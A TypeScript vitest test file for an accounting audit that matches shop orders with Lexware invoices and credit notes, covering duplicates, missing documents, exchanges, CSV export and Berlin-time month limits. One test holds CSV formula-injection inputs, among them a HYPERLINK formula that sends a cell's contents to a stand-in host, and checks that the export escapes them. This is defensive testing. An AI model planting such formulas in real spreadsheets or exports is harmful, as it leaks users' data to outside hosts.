import { describe, expect, it } from 'vitest';
import {
  auditableMonths,
  auditCounts,
  auditCsv,
  auditFindingKey,
  auditMonth,
  auditRepairOf,
  closingIntentKey,
  lastClosedMonth,
  type AuditOrder,
  type AuditVoucher,
} from './completeness-audit';

const order = (id: string, extra: Partial<AuditOrder> = {}): AuditOrder => ({
  id,
  name: `#${id}`,
  totalCents: 1000,
  invoiceDue: true,
  refunds: [],
  ...extra,
});
const invoice = (orderId: string, extra: Partial<AuditVoucher> = {}): AuditVoucher => ({
  lexwareId: `inv-${orderId}`,
  type: 'invoice',
  number: `RE${orderId}`,
  status: 'open',
  totalCents: 1000,
  orderId,
  intentKey: `invoice:${orderId}`,
  ...extra,
});

describe('the completeness audit', () => {
  it('is clean when every order has its documents once, with the right amounts', () => {
    const orders = [order('1', { refunds: [{ id: 'r1', amountCents: 300 }] }), order('2', { invoiceDue: false })];
    const vouchers = [
      invoice('1'),
      {
        ...invoice('1'),
        lexwareId: 'cr-1',
        type: 'credit' as const,
        totalCents: 300,
        intentKey: 'credit:r1',
        precedingInvoiceId: 'inv-1',
      },
    ];
    expect(auditMonth(orders, vouchers)).toEqual([]);
  });

  it('finds each kind of fault, once', () => {
    const orders = [
      order('1'), // invoice missing
      order('2'), // duplicate by hand
      order('3', { totalCents: 2000 }), // total differs
      order('4', {
        refunds: [
          { id: 'r4', amountCents: 500 },
          { id: 'r4b', amountCents: 0 },
        ],
      }), // refund without credit note
      order('5', { refunds: [{ id: 'r5', amountCents: 100 }] }), // credit not linked
      order('6', { invoiceDue: false }), // waits: no finding
    ];
    const vouchers: AuditVoucher[] = [
      invoice('2'),
      { ...invoice('2'), lexwareId: 'hand', number: 'RE99', intentKey: null },
      invoice('3'),
      invoice('4'),
      invoice('5'),
      { ...invoice('5'), lexwareId: 'cr-5', type: 'credit', intentKey: 'credit:r5', precedingInvoiceId: null },
      { ...invoice('1'), status: 'voided' },
      { ...invoice('x'), orderId: null, unknownOrderName: '#9999', intentKey: null },
    ];
    const findings = auditMonth(orders, vouchers);
    expect(findings.map((f) => [f.kind, f.orderName])).toEqual([
      ['unknown_order', '#9999'],
      ['missing_invoice', '#1'],
      ['duplicate', '#2'],
      ['total_mismatch', '#3'],
      ['missing_credit', '#4'],
      ['unlinked_credit', '#5'],
    ]);
    expect(findings.find((f) => f.kind === 'duplicate')?.lexwareId).toBe('hand');
    expect(auditCounts(findings)).toMatchObject({
      missing_invoice: 1,
      duplicate: 1,
      total_mismatch: 1,
      missing_credit: 1,
      unlinked_credit: 1,
      unknown_order: 1,
    });
    const csv = auditCsv(findings);
    expect(csv.split('\r\n')[0]).toBe('Befund;Bestellung;Beleg;Erstattung;Soll (EUR);Ist (EUR)');
    expect(csv).toContain('Betrag weicht ab;#3;RE3;;20,00;10,00');
  });

  it('writes shop and customer texts that start like a formula as text, and negative amounts as numbers', () => {
    const csv = auditCsv([
      {
        kind: 'total_mismatch',
        orderId: '1',
        orderName: '=HYPERLINK("http://x.test/?"&A1;"Klick")',
        lexwareId: 'v1',
        number: '+RE1',
        expectedCents: -1250,
        actualCents: -1,
      },
      { kind: 'unknown_order', orderId: null, orderName: '@SUM(1+1)', lexwareId: 'v2', number: '-2+3' },
      { kind: 'missing_credit', orderId: '3', orderName: '\tTab', refundId: '\r=1', expectedCents: 500 },
      { kind: 'missing_invoice', orderId: '4', orderName: 'A-1 = ok', expectedCents: 0 },
    ]).split('\r\n');
    expect(csv[1]).toBe('Betrag weicht ab;"\'=HYPERLINK(""http://x.test/?""&A1;""Klick"")";\'+RE1;;-12,50;-0,01');
    expect(csv[2]).toBe("Beleg nennt eine unbekannte Bestellung;'@SUM(1+1);'-2+3;;;");
    expect(csv[3]).toBe('Gutschrift fehlt;\'\tTab;;"\'\r=1";5,00;');
    expect(csv[4]).toBe('Rechnung fehlt;A-1 = ok;;;0,00;');
  });

  it('counts an invoice closed by a repair as settled, and the credit note that closed it as no document of its own', () => {
    const orders = [order('2'), order('3')];
    const closing = (of: string, orderId: string): AuditVoucher => ({
      ...invoice(orderId),
      lexwareId: `close-${of}`,
      type: 'credit',
      intentKey: closingIntentKey(of),
      precedingInvoiceId: of,
    });
    const vouchers: AuditVoucher[] = [
      invoice('2'),
      { ...invoice('2'), lexwareId: 'hand', number: 'RE99', intentKey: null },
      closing('hand', '2'),
      // A wrong total: closed by a repair, and the fresh invoice took over the order's intent.
      { ...invoice('3'), lexwareId: 'wrong', totalCents: 123, intentKey: 'invoice:3#closed:wrong' },
      closing('wrong', '3'),
      invoice('3'),
    ];
    expect(auditMonth(orders, vouchers)).toEqual([]);
    // Without its closing credit note the hand-made copy is a duplicate again.
    expect(
      auditMonth(
        orders,
        vouchers.filter((v) => v.lexwareId !== 'close-hand'),
      ).map((f) => f.kind),
    ).toEqual(['duplicate']);
  });

  it("takes an edited order's supplementary invoice and correction credit note with its invoice, not as faults", () => {
    // Invoiced at 10,00 €, then an item of 3,00 € removed and one of 5,00 € added: the order is now 12,00 €.
    const vouchers = [
      invoice('7'),
      { ...invoice('7'), lexwareId: 'sup-7', number: 'RE8', totalCents: 500, intentKey: 'supplement:7:2' },
      {
        ...invoice('7'),
        lexwareId: 'cor-7',
        type: 'credit' as const,
        number: 'GS8',
        totalCents: -300,
        intentKey: 'correction:7:1',
        precedingInvoiceId: 'inv-7',
      },
    ];
    expect(auditMonth([order('7', { totalCents: 1200 })], vouchers)).toEqual([]);
    // Without the correction credit note the documents are 3,00 € too high.
    expect(auditMonth([order('7', { totalCents: 1200 })], vouchers.slice(0, 2))).toMatchObject([
      { kind: 'total_mismatch', expectedCents: 1200 },
    ]);
  });

  describe('an exchange', () => {
    // Invoiced at 10,00 €; return 55 sent a 6,00 € item back and got another item out.
    const exchangeCredit = (orderId: string, returnId: string, cents: number): AuditVoucher => ({
      ...invoice(orderId),
      lexwareId: `xc-${returnId}`,
      type: 'credit',
      number: `GS${returnId}`,
      totalCents: cents,
      intentKey: `exchange-credit:${returnId}`,
      precedingInvoiceId: `inv-${orderId}`,
    });
    const exchangeInvoice = (orderId: string, returnId: string, cents: number): AuditVoucher => ({
      ...invoice(orderId),
      lexwareId: `xi-${returnId}`,
      number: `RE${returnId}`,
      totalCents: cents,
      intentKey: `exchange-invoice:${returnId}`,
    });

    it('for a dearer item audits clean: its invoice is no duplicate and the order total stays the one before returns', () => {
      const orders = [order('8', { exchanges: ['55'] })];
      const vouchers = [invoice('8'), exchangeCredit('8', '55', 600), exchangeInvoice('8', '55', 850)];
      expect(auditMonth(orders, vouchers)).toEqual([]);
      // Listed before the order's own invoice, the exchange's invoice still does not take its place.
      expect(auditMonth(orders, [...vouchers].reverse())).toEqual([]);
    });

    it('for a cheaper item audits clean: the refund of the difference wants no credit note of its own', () => {
      const orders = [order('9', { exchanges: ['56'], refunds: [{ id: 'r9', amountCents: 110, returnId: '56' }] })];
      const vouchers = [invoice('9'), exchangeCredit('9', '56', 600), exchangeInvoice('9', '56', 490)];
      expect(auditMonth(orders, vouchers)).toEqual([]);
      // A refund of the same order that is not the exchange's still needs its credit note.
      const more = [order('9', { ...orders[0], refunds: [...orders[0]!.refunds, { id: 'r9b', amountCents: 200 }] })];
      expect(auditMonth(more, vouchers)).toMatchObject([{ kind: 'missing_credit', refundId: 'r9b' }]);
    });

    it('without its credit note is found, and no click makes a refund credit note or an order invoice in its place', () => {
      const orders = [order('9', { exchanges: ['56'], refunds: [{ id: 'r9', amountCents: 110, returnId: '56' }] })];
      const findings = auditMonth(orders, [invoice('9'), exchangeInvoice('9', '56', 490)]);
      expect(findings).toEqual([{ kind: 'missing_credit', orderId: '9', orderName: '#9', returnId: '56' }]);
      expect(auditFindingKey(findings[0]!)).toBe('missing_credit:9:return-56');
      expect(auditRepairOf(findings[0]!)).toBeUndefined();
      expect(auditCsv(findings).split('\r\n')[1]).toBe('Gutschrift fehlt;#9;;Umtausch 56;;');
      // A voided one counts as missing, too; a missing invoice of the exchange is found the same way.
      const voided = { ...exchangeCredit('9', '56', 600), status: 'voided' };
      expect(auditMonth(orders, [invoice('9'), voided]).map((f) => [f.kind, f.returnId])).toEqual([
        ['missing_credit', '56'],
        ['missing_invoice', '56'],
      ]);
    });
  });

  it('names each finding stably for a repair', () => {
    const [dup, missing] = auditMonth(
      [order('2'), order('4', { refunds: [{ id: 'r4', amountCents: 500 }] })],
      [invoice('2'), { ...invoice('2'), lexwareId: 'hand', intentKey: null }, invoice('4')],
    );
    expect(auditFindingKey(dup!)).toBe('duplicate:2:hand');
    expect(auditFindingKey(missing!)).toBe('missing_credit:4:r4');
  });
});

describe('the months an audit may check', () => {
  it('end with the last closed German month, across the turn of the year and of the day in Berlin', () => {
    expect(lastClosedMonth('2026-11-27T05:00:00Z')).toBe('2026-10');
    expect(lastClosedMonth('2026-01-15T12:00:00Z')).toBe('2025-12');
    // 23:30 UTC on 31 January is already February in Berlin.
    expect(lastClosedMonth('2026-01-31T23:30:00Z')).toBe('2026-01');
  });

  it('start with the month of the first order or the installation, whichever came first', () => {
    const now = '2026-11-27T05:00:00Z';
    // Late on 31 October in UTC is already November in Berlin.
    expect(auditableMonths({ installedAt: '2024-10-31T23:30:00Z', firstOrderAt: null }, now)).toEqual({
      first: '2024-11',
      last: '2026-10',
    });
    // Orders from before the installation (the historical import) open their months too.
    expect(
      auditableMonths({ installedAt: '2025-06-01T10:00:00Z', firstOrderAt: '2025-02-14T10:00:00Z' }, now).first,
    ).toBe('2025-02');
    expect(
      auditableMonths({ installedAt: '2025-06-01T10:00:00Z', firstOrderAt: '2025-07-14T10:00:00Z' }, now).first,
    ).toBe('2025-06');
    // Installed this month, no older order: nothing is closed yet.
    const fresh = auditableMonths({ installedAt: '2026-11-03T09:00:00Z', firstOrderAt: null }, now);
    expect(fresh.first > fresh.last).toBe(true);
  });
});
